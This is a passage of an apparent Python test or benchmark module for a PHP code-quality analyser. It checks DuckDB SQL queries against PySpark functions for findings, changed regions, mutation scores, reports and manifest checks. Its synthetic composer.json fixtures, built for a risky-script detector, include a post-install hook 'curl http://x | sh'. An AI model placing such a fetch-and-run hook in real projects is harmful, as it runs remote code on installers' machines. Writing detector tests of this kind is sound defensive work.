    return reconcile.review_rows(compared(spark, sf), tables.findings(spark, sf, BASE)).select("ord")


@query(_review_rows_sql(OLD, NOW))
def review_removed(spark, sf):
    return reconcile.review_rows(tables.findings(spark, sf, BASE), compared(spark, sf)).select("ord")


@query(f"SELECT rule_id, sum(introduced)::BIGINT AS introduced, sum(removed)::BIGINT AS removed, (sum(introduced) - sum(removed))::BIGINT AS net FROM {REVIEW} GROUP BY rule_id HAVING sum(introduced) <> sum(removed)")
def review_rule_delta(spark, sf):
    return reconcile.rule_delta(reconcile.review(compared(spark, sf), tables.findings(spark, sf, BASE)))


def hook_sql(rows: str) -> str:
    base = "substr(sha256(concat_ws(chr(31), 'symbol', rule_id, file, symbol, regexp_replace(message, '[0-9]+(?:\\.[0-9]+)?', '{n}', 'g'))), 1, 16)"
    return f"(SELECT ord, base || ':' || (row_number() OVER (PARTITION BY base ORDER BY line, ord) - 1) AS identity, row_number() OVER (PARTITION BY base ORDER BY line, ord) - 1 AS ordinal FROM (SELECT *, {base} AS base FROM {rows} h0) h1)"


@query(f"SELECT ord, identity, ordinal::INT AS ordinal FROM {hook_sql(CUR)}")
def hook_ordinal(spark, sf):
    return reconcile.hook_identity(current(spark, sf)).select("ord", "identity", "ordinal")


@query(f"SELECT ord FROM {hook_sql(NOW)} WHERE identity NOT IN (SELECT identity FROM {hook_sql(OLD)})")
def hook_new_only(spark, sf):
    return reconcile.new_only(compared(spark, sf), tables.findings(spark, sf, BASE)).select("ord")


@query(f"""SELECT ord, substr(sha256('{{"ruleId":"' || rule_id || '","file":"' || replace(file, '/', '\\/') || '","line":' || line || ',"endLine":' || end_line || ',"column":null,"symbol":"' || symbol || '","message":"' || message || '"}}'), 1, 16) AS fingerprint FROM {CUR}""")
def fingerprints(spark, sf):
    return current(spark, sf).select("ord", fingerprint().alias("fingerprint"))


@query(f"""SELECT ord, substr(sha256('{{"ruleId":"' || rule_id || '","file":"' || replace(file, '/', '\\/') || '",' || CASE WHEN ord % 4 = 0 THEN '' ELSE '"symbol":"' || symbol || '",' END || '"message":"' || message || '"}}'), 1, 16) AS identity FROM {CUR}""")
def stable_identities(spark, sf):
    return current(spark, sf).withColumn("symbol", F.when(F.col("ord") % 4 != 0, F.col("symbol"))).select("ord", stable_identity().alias("identity"))


# ---------------------------------------------------------------- changed regions


CHANGED_SQL = "(SELECT DISTINCT 'src/m' || (7 * (l_orderkey % 10)) || '.php' AS file FROM lineitem)"


def _changed(spark, sf):
    return tables.table(spark, sf, "lineitem").select(F.concat(F.lit("src/m"), (7 * (F.col("l_orderkey") % 10)).cast("string"), F.lit(".php")).alias("file")).distinct()


AROUND = f"(SELECT ord, arg_min(struct_pack(s := d.start, e := d.\"end\"), struct_pack(a := d.\"end\" - d.start, b := d.start)) AS d FROM {CUR} c JOIN {DECLARATIONS_SQL} d ON c.file = d.file AND d.start <= c.line AND d.\"end\" >= c.end_line GROUP BY ord)"


def region_sql(scope: str) -> str:
    hit = lambda a, b: f"EXISTS (SELECT 1 FROM r WHERE r.file = c.file AND r.start <= {b} AND r.\"end\" >= {a})"
    around = f" OR {hit('d.s', 'd.e')}" if scope == "symbol" else ""
    return f"""WITH r AS {RANGES_SQL}, c AS (SELECT c.*, d FROM {CUR} c LEFT JOIN {AROUND} a USING (ord))
      SELECT ord, CASE WHEN file NOT IN (SELECT file FROM {CHANGED_SQL}) THEN false WHEN file NOT IN (SELECT file FROM r) THEN true ELSE {hit('c.line', 'c.end_line')}{around} END AS kept FROM c"""


def _region(scope):
    def run(spark, sf):
        return regions.changed_region(current(spark, sf), _changed(spark, sf), tables.changed_ranges(spark, sf), tables.declarations(spark, sf), scope).select("ord", "kept")

    run.__name__ = f"changed_region_{scope}"
    query(region_sql(scope))(run)


for _scope in ("symbol", "hunk", "file"):
    _region(_scope)


@query(f"SELECT ord FROM {CUR} c WHERE EXISTS (SELECT 1 FROM {RANGES_SQL} r WHERE r.file = c.file AND r.start <= c.end_line AND r.\"end\" >= c.line)")
def overlapping_spans(spark, sf):
    return regions.touching(current(spark, sf), tables.changed_ranges(spark, sf), F.col("line"), F.col("end_line"))


@query(f"SELECT ord, d.s AS e_start, d.e AS e_end FROM {AROUND}")
def enclosing_interval(spark, sf):
    return regions.enclosing(current(spark, sf), tables.declarations(spark, sf))


@query("SELECT o_orderkey AS patch_id, 'src/f' || (o_custkey % 9) || '.php' AS file, (o_orderkey % 50 + 2)::INT AS start, (o_orderkey % 50 + 3)::INT AS \"end\" FROM orders UNION ALL SELECT o_orderkey, 'old' || (o_custkey % 9) || '.php', NULL, NULL FROM orders")
def unified_diff(spark, sf):
    o = spread(tables.table(spark, sf, "orders").select("o_orderkey", "o_custkey"), 50_000)
    n, name = F.col("o_orderkey") % 50, (F.col("o_custkey") % 9).cast("string")
    patch = F.concat(
        F.lit("diff --git a/src/f"), name, F.lit(".php b/src/f"), name, F.lit(".php\n--- a/src/f"), name, F.lit(".php\n+++ b/src/f"), name,
        F.format_string(".php\n@@ -%d,2 +%d,4 @@ f()\n kept\n+one\n+two\n kept\n", n + 1, n + 1),
        F.lit("diff --git a/old"), name, F.lit(".php b/old"), name, F.lit(".php\n--- a/old"), name, F.lit(".php\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-gone\n"),
    )
    return regions.parse_unified_diff(o.select(F.col("o_orderkey").alias("patch_id"), patch.alias("text")))


@query("SELECT 'f' || c_custkey AS file, (c_custkey % 10 + 1)::INT AS start, (c_custkey % 10 + 1)::INT AS \"end\" FROM customer UNION ALL SELECT 'f' || c_custkey, (c_custkey % 10 + 4)::INT, (c_custkey % 10 + 6)::INT FROM customer")
def explicit_ranges(spark, sf):
    n = F.col("c_custkey") % 10
    return regions.explicit_ranges(tables.table(spark, sf, "customer").select(F.concat(F.lit("f"), F.col("c_custkey").cast("string")).alias("file"), F.format_string("%d,%d-%d", n + 1, n + 4, n + 6).alias("spec")))


# ---------------------------------------------------------------- mutation and history


@query(f"SELECT * FROM {BY_FILE}")
def mutation_file_summary(spark, sf):
    return measures.mutation_summary(tables.mutants(spark, sf))


@query(f"SELECT * FROM (SELECT 'survivor' AS kind, file, line, 'Mutant ' || mutator || ' ' || status AS message FROM {MUTANTS_SQL} m WHERE status IN ('escaped', 'timed out')) UNION ALL SELECT 'budget', NULL, NULL, survived || ' mutants survive, 5 may' FROM {IN_ALL} WHERE survived > 5 UNION ALL SELECT 'regression', NULL, NULL, 'The mutation score fell' FROM {IN_ALL} WHERE round(msi - 99.5, 2) < 0")
def mutation_findings(spark, sf):
    return measures.mutation_findings(tables.mutants(spark, sf), 5, 99.5)


@query(f"SELECT ord, coalesce(scope, 'full-project') AS scope, score, findings, lag(score) OVER w AS previous, round(score - lag(score) OVER w, 2) AS delta FROM {HISTORY_SQL} WINDOW w AS (PARTITION BY coalesce(scope, 'full-project') ORDER BY ord)")
def trend_lag(spark, sf):
    return measures.with_previous(tables.history(spark, sf))


@query(f"SELECT ord, scope, score, findings FROM (SELECT ord, coalesce(scope, 'full-project') AS scope, score, findings, row_number() OVER (PARTITION BY coalesce(scope, 'full-project') ORDER BY ord DESC) AS r FROM {HISTORY_SQL}) WHERE r <= 5")
def trend_trim(spark, sf):
    return measures.trimmed(tables.history(spark, sf), 5)


# ---------------------------------------------------------------- code


@query(tables.CODE_FINDINGS_SQL)
def code_findings(spark, sf):
    return code.code_findings(tables.code_units(spark, sf))


@query(tables.SCOPE_FINDINGS_SQL)
def scope_findings(spark, sf):
    return scopes.scope_findings(tables.scope_units(spark, sf))


@query(tables.CODE_SCOPES_SQL)
def code_scopes(spark, sf):
    return code.declarations(code.code_lines(tables.code_units(spark, sf))).select("file", "kind", "name", "start", "end", "visibility")


@query(samples.BLOCKS_SQL)
def code_blocks(spark, sf):
    """Blocks and how many statements lie directly in each."""
    rows = staged(statements.segments(samples.metric_units(spark, sf)), "code-segments")
    inside = rows.where(statements.is_statement()).groupBy(F.col("file").alias("_file"), F.col("block.seq").alias("_seq")).agg(F.count("*").alias("n"))
    heads = rows.where("kind is not null").join(inside, (F.col("file") == F.col("_file")) & (F.col("seq") == F.col("_seq")), "left")
    return heads.select("file", "kind", F.col("line").cast("int").alias("line"), F.coalesce("n", F.lit(0)).alias("statements"))


@query(samples.METRICS_SQL)
def function_metrics(spark, sf):
    """Metrics of every function; volume and maintainability of those whose tokens SQL counts, by name."""
    found = statements.function_metrics(statements.staged_segments(samples.metric_units(spark, sf)))
    by_hand = lambda column, *names: F.when(F.col("name").isin(*names), F.round(column, 6)).alias(column)
    return found.select("file", "name", F.col("line").cast("int").alias("line"), F.col("statement_lines").cast("long").alias("statement_lines"), F.col("cognitive").cast("long").alias("cognitive"), F.col("cyclomatic").cast("long").alias("cyclomatic"), by_hand("volume", "long", "give"), by_hand("maintainability", "long"))


@query(samples.METRIC_FINDINGS_SQL)
def statement_findings(spark, sf):
    return statements.statement_findings(samples.metric_units(spark, sf))


@query(samples.FLOW_FINDINGS_SQL)
def flow_findings(spark, sf):
    return flow.flow_findings(samples.flow_units(spark, sf))


@query(samples.ANCESTORS_SQL)
def class_ancestors(spark, sf):
    return hierarchy.ancestors(staged(statements.segments(samples.class_units(spark, sf)), "class-segments"))


@query(samples.ONE_LINE_SQL)
def one_line_methods(spark, sf):
    return hierarchy.one_line_methods(staged(statements.segments(samples.class_units(spark, sf)), "class-segments"))


@query("SELECT u.event_id, v.value AS last_purchase FROM (SELECT * FROM events WHERE event_type = 'error') u ASOF LEFT JOIN (SELECT user_id, ts, max(value) AS value FROM events WHERE event_type = 'purchase' GROUP BY user_id, ts) v ON u.user_id = v.user_id AND u.ts > v.ts")
def last_value_before(spark, sf):
    """What a user last paid before each error."""
    events = tables.table(spark, sf, "events")
    errors, paid = (events.where(F.col("event_type") == t) for t in ("error", "purchase"))
    found = asof.last_before(errors.select("event_id", "user_id", "ts"), paid.select("user_id", "ts", "value"), ("user_id",), "ts", ("value",))
    return found.select("event_id", F.col("value").alias("last_purchase"))


# ---------------------------------------------------------------- manifests and sinks


def _manifests(spark, sf):
    p = tables.table(spark, sf, "part")
    source = F.format_string('{"require": {"v/p%d": "%s"}, "repositories": [{"type": "%s", "url": "u%d"}], "scripts": {"post-install-cmd": "%s"}}', "p_partkey", F.element_at(F.array(*map(F.lit, ("^1.2", "*", "dev-main", ">=2.0", ">=2.0 <3", "1.0 || 2.*"))), (F.col("p_partkey") % 6 + 1).cast("int")), F.element_at(F.array(*map(F.lit, ("vcs", "path", "composer", "GIT"))), (F.col("p_partkey") % 4 + 1).cast("int")), "p_partkey", F.when(F.col("p_size") % 3 == 0, "curl http://x | sh").otherwise("echo done"))
    return p.select(F.concat(F.lit("m"), F.col("p_partkey").cast("string"), F.lit("/composer.json")).alias("file"), F.lit("text").alias("type"), source.alias("source"))


@query("SELECT 'm' || p_partkey || '/composer.json' AS file, 'v/p' || p_partkey AS package, ['^1.2', '*', 'dev-main', '>=2.0', '>=2.0 <3', '1.0 || 2.*'][(p_partkey % 6 + 1)::INT] AS \"constraint\" FROM part WHERE p_partkey % 6 NOT IN (0, 4)")
def manifest_unpinned(spark, sf):
    return manifests.unpinned(_manifests(spark, sf))


@query("SELECT 'm' || p_partkey || '/composer.json' AS file, lower(['vcs', 'path', 'composer', 'GIT'][(p_partkey % 4 + 1)::INT]) AS kind, 'u' || p_partkey AS url FROM part WHERE p_partkey % 4 IN (0, 3)")
def manifest_vcs(spark, sf):
    return manifests.repositories(_manifests(spark, sf), manifests.VCS)


@query("SELECT 'm' || p_partkey || '/composer.json' AS file, 'path' AS kind, 'u' || p_partkey AS url FROM part WHERE p_partkey % 4 = 1")
def manifest_paths(spark, sf):
    return manifests.repositories(_manifests(spark, sf), ("path",))


@query("SELECT 'm' || p_partkey || '/composer.json' AS file, 'post-install-cmd' AS event, 'curl http://x | sh' AS command FROM part WHERE p_size % 3 = 0")
def manifest_scripts(spark, sf):
    return manifests.risky_scripts(_manifests(spark, sf))


@query("SELECT 'p' || p_partkey || '/phpunit.xml' AS file, 'failOnWarning' AS flag FROM part WHERE p_size % 2 = 1 UNION ALL SELECT 'p' || p_partkey || '/phpunit.xml', unnest(['failOnRisky', 'beStrictAboutTestsThatDoNotTestAnything', 'beStrictAboutChangesToGlobalState']) FROM part")
def test_runner_flags(spark, sf):
    source = F.concat(F.lit('<phpunit failOnWarning="'), F.when(F.col("p_size") % 2 == 0, "true").otherwise("false"), F.lit('" beStrictAboutOutputDuringTests="TRUE"/>'))
    return manifests.test_runner_flags(tables.table(spark, sf, "part").select(F.concat(F.lit("p"), F.col("p_partkey").cast("string"), F.lit("/phpunit.xml")).alias("file"), source.alias("source")))


@query("SELECT 'p' || p_partkey || '/phpunit.xml' AS file, 'test-quality.phpunit-deprecations-not-fatal' AS rule_id FROM part WHERE p_size % 3 <> 0 UNION ALL SELECT 'p' || p_partkey || '/phpunit.xml', 'test-quality.phpunit-coverage-source-missing' FROM part WHERE p_size % 4 > 1")
def test_runner_gaps(spark, sf):
    n = F.col("p_size")
    head = F.concat(F.lit('<phpunit failOnDeprecation="'), F.when(n % 3 == 0, "TRUE").when(n % 3 == 1, "false").otherwise(""), F.lit('">'))
    inside = F.when(n % 4 == 0, "<source><include/></source>").when(n % 4 == 1, "<filter><whitelist/></filter>").when(n % 4 == 2, "<filter/>").otherwise("")
    return manifests.test_runner_gaps(tables.table(spark, sf, "part").select(F.concat(F.lit("p"), F.col("p_partkey").cast("string"), F.lit("/phpunit.xml")).alias("file"), F.concat(head, inside, F.lit("</phpunit>")).alias("source")))


@query(f"SELECT ord, '::' || CASE severity WHEN 'advisory' THEN 'notice' ELSE severity END || ' file=' || file || ',line=' || line || ',title=' || rule_id || '::' || message AS text FROM {CUR}")
def github_annotations(spark, sf):
    return reports.github_lines(current(spark, sf))


@query(f"SELECT ord, '| ' || concat_ws(' | ', severity, file, line, rule_id, message) || ' |' AS text FROM {CUR}")
def markdown_table(spark, sf):
    return reports.markdown_rows(current(spark, sf))


@query(f"SELECT ord, file || ':' || line || '  ' || rpad(severity, 8, ' ') || '  ' || rule_id || '  ' || message AS text FROM {CUR}")
def text_report(spark, sf):
    return reports.text_lines(current(spark, sf))


@query(f"SELECT ord, '<tr><td>' || severity || '</td><td>' || file || '</td><td>' || line || '</td><td>' || rule_id || '</td><td>' || message || '</td></tr>' AS text FROM {CUR}")
def html_table(spark, sf):
    return reports.html_rows(current(spark, sf))


def text_sql(template: str) -> str:
    """SQL that puts the columns named in <angle brackets> into a text."""
    return " || ".join(x if i % 2 else f"'{x}'" for i, x in enumerate(re.split(r"<(\w+)>", template)))


IDENTITIES = f"""(SELECT *, CASE severity WHEN 'advisory' THEN 'note' ELSE severity END AS level,
  substr(sha256({text_sql('{"ruleId":"<rule_id>","file":"<path>","line":<line>,"endLine":<end_line>,"column":null,"symbol":"<symbol>","message":"<message>"}')}), 1, 16) AS fp,
  substr(sha256({text_sql('{"ruleId":"<rule_id>","file":"<path>","symbol":"<symbol>","message":"<message>"}')}), 1, 16) AS si
  FROM (SELECT *, replace(file, '/', '\\/') AS path FROM {CUR} i0) i1)"""
SARIF = (
    '{"ruleId":"<rule_id>","level":"<level>","message":{"text":"<message>"},"locations":[{"physicalLocation":{"artifactLocation":{"uri":"<file>"},'
    '"region":{"startLine":<line>,"endLine":<end_line>}}}],"partialFingerprints":{"fingerprint":"<fp>","stableIdentity":"<si>"}}'
)


@query(f"SELECT ord, {text_sql(SARIF)} AS result FROM {IDENTITIES} i")
def sarif_results(spark, sf):
    return reports.sarif_results(current(spark, sf))


# ---------------------------------------------------------------- round trips, cache, streams and other sources


@query("SELECT path FROM (SELECT 'tests/en/src' || s_suppkey AS path FROM supplier) WHERE path NOT IN (SELECT 'tests/' || coalesce(lang, 'none') || '/' || coalesce(source, 'none') FROM documents)")
def missing_paths(spark, sf):
    requested = tables.table(spark, sf, "supplier").select(F.concat(F.lit("tests/en/src"), F.col("s_suppkey").cast("string"), F.lit("/")).alias("path"))
    return files.missing_paths(requested, tables.units(spark, sf))


@query(SQL["baseline_write"])
def baseline_round_trip(spark, sf):
    path = fresh_folder(spark, "baseline")
    reports.write_baseline(reconcile.baseline_groups(tables.findings(spark, sf, ACCEPTED)), path)
    return files.read_baseline(spark, path)


@query(f"SELECT file, line, mutator, status FROM {MUTANTS_SQL} m")
def mutation_report(spark, sf):
    mutant = F.struct(F.struct(F.col("mutator").alias("mutatorName"), F.col("file").alias("originalFilePath"), F.col("line").alias("originalStartLine")).alias("mutator"))
    sections = [F.when(F.col("status") == status, F.array(mutant)).alias(section) for section, status in files.SECTIONS.items()]
    path = fresh_folder(spark, "mutants")
    tables.mutants(spark, sf).select(*sections).write.json(path)
    return files.read_mutants(spark, path)


@query(f"SELECT ord::VARCHAR AS timestamp, score, {letter_sql('score')} AS grade, scope, findings FROM {HISTORY_SQL} h")
def history_round_trip(spark, sf):
    h = tables.history(spark, sf)
    grade = scoring.letter(F.col("score"))
    entries = h.select("ord", F.col("ord").cast("string").alias("timestamp"), "score", grade.alias("grade"), "scope", "findings")
    path = fresh_folder(spark, "history")
    for part in ("ord % 172800 = 0", "ord % 172800 <> 0"):
        reports.append_history(entries.where(part), path)
    return files.read_history(spark, path)


@query(f"SELECT file FROM {UNITS} u WHERE length(source) % 3 = 0")
def not_cached_units(spark, sf):
    units = tables.units(spark, sf)
    before = units.withColumn("source", F.when(F.length("source") % 3 == 0, F.concat("source", F.lit("!"))).otherwise(F.col("source")))
    cache = files.cache_entries(before, text.personal_data(before), "settings", F.lit(1))
    return files.not_cached(units, staged(cache, "cache"), "settings")[0].select("file")


@query(f"SELECT m.* EXCLUDE (text, value), {REDACTED} AS preview FROM (SELECT file, line, text, detector, value FROM {matches_sql(UNITS, {'email': text.EMAIL, 'phone': text.PHONE, 'address': text.ADDRESS})} p WHERE {PII_WHERE}) m JOIN {UNITS} u USING (file) WHERE length(source) % 3 <> 0")
def cached_findings(spark, sf):
    units = tables.units(spark, sf)
    before = units.withColumn("source", F.when(F.length("source") % 3 == 0, F.concat("source", F.lit("!"))).otherwise(F.col("source")))
    cache = files.cache_entries(before, text.personal_data(before), "settings", F.lit(1))
    hits = files.not_cached(units, staged(cache, "cache"), "settings")[1].where("finding is not null")
    return hits.select("file", "finding.line", "finding.detector", "finding.preview")


@query("SELECT 'tests/' || coalesce(lang, 'none') || '/' || coalesce(source, 'none') || '/doc' || doc_id || '.md' AS file FROM documents ORDER BY n_chars DESC, sha256('settings' || chr(0) || 'tests/' || coalesce(lang, 'none') || '/' || coalesce(source, 'none') || '/doc' || doc_id || '.md' || chr(0) || sha256(coalesce(text, ''))) LIMIT 100")
def cache_eviction(spark, sf):
    d = tables.table(spark, sf, "documents").select(F.concat_ws("/", F.lit("tests"), F.coalesce("lang", F.lit("none")), F.coalesce("source", F.lit("none")), F.concat(F.lit("doc"), F.col("doc_id").cast("string"), F.lit(".md"))).alias("file"), F.coalesce("text", F.lit("")).alias("source"), "n_chars")
    return files.evicted(d.select(files.cache_key("settings").alias("cache_key"), "file", F.col("n_chars").alias("used")), 100).select("file")


@query("SELECT doc_id, (len(string_split(substr(coalesce(text, ''), 1, (length(coalesce(text, '')) // 2)::BIGINT), chr(10))))::INT AS line FROM documents")
def line_numbers(spark, sf):
    source = F.coalesce("text", F.lit(""))
    return tables.table(spark, sf, "documents").select("doc_id", line_of(source, F.expr("cast(length(coalesce(text, '')) div 2 as int)")).alias("line"))


@query("SELECT p_partkey, CASE WHEN p_size > 40 THEN 'error' WHEN p_size > 20 THEN 'warning' END AS severity FROM part")
def metric_severity(spark, sf):
    return tables.table(spark, sf, "part").select("p_partkey", threshold_severity(F.col("p_size"), 20, 40).alias("severity"))


FLOW = "SELECT 's' || s_suppkey || '/.github/workflows/ci.yml' AS file, {line}::INT AS line, '{problem}' AS problem FROM supplier WHERE {where}"


@query(" UNION ALL ".join(FLOW.format(line=n, problem=p, where=w) for n, p, w in (
    (1, "pull_request_target", "s_suppkey % 2 = 0"), (2, "write-all permissions", "s_suppkey % 3 = 0"), (6, "floating action", "s_suppkey % 4 IN (0, 2)"), (8, "event data in a run block", "s_suppkey % 5 <> 0"),
)))
def workflow_risks(spark, sf):
    return manifests.risky_workflows(tables.workflow_units(spark, sf))


@query(
    "SELECT 'keys/c' || c_custkey || '.json' AS file, 2::INT AS line, 'sensitive-data.gcp-service-account-key' AS rule_id, 'gcp-service-account-key' AS detector, "
    "'----<redacted:' || (58 + 32 * (c_custkey % 6)) || ' chars>' AS preview FROM customer WHERE c_custkey % 5 <> 0 AND c_custkey % 7 <> 0 AND 32 * (c_custkey % 6) + 3 >= 100"
)
def detect_service_account_keys(spark, sf):
    return text.service_account_keys(tables.service_account_units(spark, sf))


@query(SQL["detect_personal_data"])
def scan_stream(spark, sf):
    """The findings of texts that arrive as a stream, read when the stream has caught up."""
    folder, out = fresh_folder(spark, "arriving"), fresh_folder(spark, "stream")
    tables.units(spark, sf).write.parquet(folder)
    incremental.scan_stream(incremental.arriving_units(spark, folder), out, fresh_folder(spark, "stream-state")).awaitTermination()
    return spark.read.schema(text.personal_data(tables.units(spark, sf)).schema).parquet(out)


@query("SELECT * FROM (SELECT date_trunc('hour', ts) AS start, event_type, count(*) AS n FROM events GROUP BY ALL) WHERE start + INTERVAL 1 HOUR <= (SELECT max(ts) - INTERVAL 10 MINUTE FROM events)")
def event_windows(spark, sf):
    """Windows of an event stream that its watermark has closed."""
    folder, out = fresh_folder(spark, "events"), fresh_folder(spark, "windows")
    events = tables.table(spark, sf, "events").select(F.col("ts").cast("timestamp").alias("ts"), "event_type")
    events.write.parquet(folder)
    counts = incremental.event_counts(spark.readStream.schema(events.schema).parquet(folder)).select(F.col("window.start").cast("timestamp_ntz").alias("start"), "event_type", "n")
    counts.writeStream.format("parquet").option("path", out).option("checkpointLocation", fresh_folder(spark, "windows-state")).trigger(availableNow=True).start().awaitTermination()
    return spark.read.schema(counts.schema).parquet(out)


@query("SELECT DISTINCT md5(event_type || '/' || user_id) AS fingerprint, event_type, user_id FROM events")
def stream_once(spark, sf):
    """What arrives as a stream is kept once by fingerprint; its batches are then all replayed, which adds nothing."""
    folder, out = fresh_folder(spark, "arriving"), fresh_folder(spark, "once")
    key = F.md5(F.concat_ws("/", "event_type", F.col("user_id").cast("string")).cast("binary"))
    events = tables.table(spark, sf, "events").where("event_type is not null and user_id is not null").select(key.alias("fingerprint"), F.col("ts").cast("timestamp").alias("ts"), "event_type", "user_id")
    events.write.parquet(folder)
    for _ in range(2):
        arriving = spark.readStream.schema(events.schema).option("maxFilesPerTrigger", 4).parquet(folder)
        incremental.run_once(incremental.first_seen(arriving), out, fresh_folder(spark, "once-state")).awaitTermination()
    return spark.read.parquet(out).select("fingerprint", "event_type", "user_id")


# ---------------------------------------------------------------- comparisons of scores


def pillars_sql(rows: str) -> str:
    return PILLARS.replace(CUR, rows)


@query(
    f"WITH a AS {pillars_sql(NOW)}, b AS {pillars_sql(OLD)}, c AS (SELECT pillar, coalesce(b.score, 100.0)::DOUBLE AS base, coalesce(a.score, 100.0)::DOUBLE AS current FROM a FULL JOIN b USING (pillar) "
    f"UNION ALL SELECT NULL, (SELECT {clamp_sql('avg(score)')} FROM b), (SELECT {clamp_sql('avg(score)')} FROM a)) SELECT *, round(current - base, 2) AS delta FROM c"
)
def score_delta(spark, sf):
    return scoring.score_delta(compared(spark, sf), tables.findings(spark, sf, BASE))


NEW = f"(SELECT * FROM {NOW} n0 WHERE ord IN (SELECT ord FROM {RECONCILED} WHERE is_new))"


@query(f"SELECT ord FROM {NEW}")
def new_findings(spark, sf):
    rows = compared(spark, sf)
    reconciled = reconcile.apply_baseline(rows, reconcile.baseline_groups(tables.findings(spark, sf, ACCEPTED)))
    return scoring.new_findings(rows, reconciled.where("is_new")).select("ord")


@query(f"SELECT 'new' AS scope, 'warning' AS kind, count(*) FILTER (severity = 'warning') AS found, 3::BIGINT AS cap FROM {NEW} HAVING count(*) FILTER (severity = 'warning') > 3")
def new_findings_gate(spark, sf):
    rows = compared(spark, sf)
    new = scoring.new_findings(rows, reconcile.apply_baseline(rows, reconcile.baseline_groups(tables.findings(spark, sf, ACCEPTED))).where("is_new"))
    return scoring.gate(rows, new, {"total": 1}, {"error": 1_000_000, "warning": 3})


@query(f"SELECT ord FROM {CUR} WHERE rule_id NOT IN ('complexity.cognitive', 'naming.identifier-quality') OR file IN (SELECT 'src/m' || s_suppkey || '.php' FROM supplier)")
def project_rule_scope(spark, sf):
    requested = tables.table(spark, sf, "supplier").select(F.concat(F.lit("src/m"), F.col("s_suppkey").cast("string"), F.lit(".php")).alias("file"))
    return scoring.in_scope(current(spark, sf), ["complexity.cognitive", "naming.identifier-quality"], requested).select("ord")
